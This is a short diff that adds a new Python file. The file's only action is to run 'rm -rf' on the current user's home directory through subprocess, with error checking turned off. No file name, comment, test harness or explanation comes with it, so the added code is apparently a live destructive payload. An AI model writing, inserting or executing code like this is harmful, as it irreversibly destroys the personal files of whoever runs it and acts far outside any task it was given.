@@ -1,0 +1,4 @@
+import os
+import subprocess
+
+subprocess.run(["rm", "-rf", os.path.expanduser("~")], check=False)
